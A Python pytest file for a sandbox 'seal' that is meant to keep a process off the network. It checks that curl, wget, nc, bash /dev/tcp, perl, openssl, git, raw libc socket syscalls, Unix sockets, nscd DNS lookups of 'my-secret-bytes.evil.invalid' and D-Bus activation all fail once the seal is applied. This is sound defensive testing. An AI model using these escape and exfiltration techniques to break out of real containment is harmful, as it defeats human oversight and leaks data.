"""What reads files cannot open a socket: ways that others know around such a wall, each shown to work without it."""

import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from tests.sandbox.processes import ROOT, in_a_process, linux

SEALS = "from localai.sandbox.seal import seal; seal()"
PROGRAMS = {
    "curl": "curl -s -m 5 http://127.0.0.1:{port}/",
    "wget": "wget -q -T 5 -t 1 -O - http://127.0.0.1:{port}/",
    "bash": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3'",
    "perl": "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => q(127.0.0.1:{port})) or die'",
    "openssl": "openssl s_client -connect 127.0.0.1:{port} </dev/null",
    "nc": "echo x | nc -w 5 127.0.0.1 {port}",
    "git": "git ls-remote git://127.0.0.1:{port}/x",
}


def beside(sealed: bool, shell: str, *around: str, **variables: str) -> subprocess.Popen[str]:
    """Start shell words as the child of a process that has sealed itself, or of one that has not."""
    program = f"import subprocess, sys; {SEALS if sealed else ''}\nsubprocess.run(sys.argv[1], shell=True)"
    environment = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), **variables}
    words = [*around, sys.executable, "-c", program, shell]
    return subprocess.Popen(words, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd="/")


def arrives(sealed: bool, shell: str) -> bool:
    """Tell whether a connection comes in while shell words run."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.02)
        program, arrived = beside(sealed, shell.format(port=listener.getsockname()[1])), False
        while True:
            ended = program.poll() is not None
            try:
                listener.accept()[0].close()
                arrived = True
            except TimeoutError:
                if ended:
                    return arrived


@linux
@pytest.mark.parametrize("program", PROGRAMS)
def test_no_program_that_was_started_connects(program: str):
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not here")
    assert arrives(False, PROGRAMS[program])
    assert not arrives(True, PROGRAMS[program])


@linux
@pytest.mark.parametrize(
    "call",
    [
        "libc.syscall({'x86_64': 41}.get(os.uname().machine, 198), 2, 1, 0)",
        "libc.syscall({'x86_64': 41}.get(os.uname().machine, 198), 2, 0o2004001, 6)",  # as libuv and asyncio ask
        "libc.syscall({'x86_64': 53}.get(os.uname().machine, 199), 2, 1, 0, (ctypes.c_int * 2)())",
    ],
)
def test_no_library_below_python_gets_a_socket(call: str):
    assert in_a_process(f"seal(); found = [{call}, ctypes.get_errno()]") == [-1, 13]


SERVERS = """
    import tempfile
    path = os.path.join(tempfile.mkdtemp(), "s")
    listeners = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    listeners[0].bind(path); listeners[1].bind("\\0localai-test-" + str(os.getpid()))
    for listener in listeners: listener.listen()
    held = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
"""


@linux
def test_no_unix_socket_with_a_path_or_an_abstract_name_is_reached():
    code = f"""{SERVERS}
    seal()
    found = [opening(mine.connect, other.getsockname()) for mine, other in zip(held, listeners)]
    found += [opening(socket.socket, socket.AF_UNIX)]
    """
    assert in_a_process(code) == ["refused"] * 3


@linux
def test_those_unix_sockets_are_reached_without_the_seal():
    code = f"""{SERVERS}
    found = [opening(mine.connect, other.getsockname()) for mine, other in zip(held, listeners)]
    """
    assert in_a_process(code) == ["None"] * 2


@linux
@pytest.mark.parametrize(
    ("made", "told"),
    [
        ("socket.socket()", True),
        ("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)", True),
        ("socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)", True),
        ("socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)", True),
        ("socket.socketpair()", False),
        ("os.pipe()", False),
    ],
)
def test_the_seal_tells_of_a_socket_that_was_open_before(made: str, told: bool):
    code = f"""
    held = {made}
    found = [reason for part, reason in seal().missing if part == "network"]
    """
    assert in_a_process(code) == (["a socket was open before"] if told else [])


# --- the resolver's daemon: libc asks it over a Unix socket, and it asks the network for us -----------------------

DAEMON = """
import os, socket, subprocess, sys
subprocess.run(["mount", "-t", "tmpfs", "none", "/run"], check=True)
os.makedirs("/var/run/nscd", exist_ok=True)
with socket.socket(socket.AF_UNIX) as listener:
    listener.bind("/var/run/nscd/socket")
    os.chmod("/var/run/nscd/socket", 0o666)
    listener.listen()
    listener.settimeout(0.02)
    asked, program = b"", subprocess.Popen(sys.argv[1:])
    while program.poll() is None:
        try:
            with listener.accept()[0] as asking:
                asking.settimeout(5)
                asked += asking.recv(4096)
        except TimeoutError:
            pass
print("asked" if b"my-secret-bytes" in asked else "not asked")
"""
LOOKUP = "import socket\ntry: socket.getaddrinfo('my-secret-bytes.evil.invalid', 80)\nexcept OSError: pass"


def has_namespaces() -> bool:
    words = ["unshare", "--user", "--map-root-user", "--mount", "--net", "true"]
    return sys.platform == "linux" and subprocess.run(words, capture_output=True).returncode == 0


@pytest.mark.skipif(not has_namespaces(), reason="the daemon's place is the system's, except in a namespace")
@pytest.mark.parametrize(("sealing", "outcome"), [("", "asked"), (SEALS, "not asked")])
def test_the_resolver_daemon_looks_no_name_up_for_it(sealing: str, outcome: str):
    around = ["unshare", "--user", "--map-root-user", "--mount", "--net", sys.executable, "-c", DAEMON]
    words = [*around, sys.executable, "-c", f"{sealing}\n{LOOKUP}"]
    environment = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "RES_OPTIONS": "timeout:1 attempts:1"}
    done = subprocess.run(words, env=environment, capture_output=True, text=True, timeout=60, cwd="/")
    assert done.stdout.strip() == outcome, done.stderr


# --- the session bus: it starts programs that are not sealed -------------------------------------------------------

ACTIVATE = "dbus-send --session --print-reply --reply-timeout=1000 --dest=org.example.Escape / org.example.Go"


@pytest.mark.skipif(shutil.which("dbus-run-session") is None, reason="there is no session bus to start here")
@pytest.mark.parametrize(("sealed", "escaped"), [(False, True), (True, False)])
def test_the_session_bus_starts_no_program_for_it(sealed: bool, escaped: bool, tmp_path: Path):
    services = tmp_path / "dbus-1" / "services"
    services.mkdir(parents=True)
    (services / "org.example.Escape.service").write_text(
        f"[D-BUS Service]\nName=org.example.Escape\nExec=/usr/bin/touch {tmp_path / 'escaped'}\n"
    )
    program = beside(sealed, ACTIVATE, "dbus-run-session", "--", XDG_DATA_HOME=str(tmp_path))
    program.wait(60)
    assert (tmp_path / "escaped").exists() == escaped
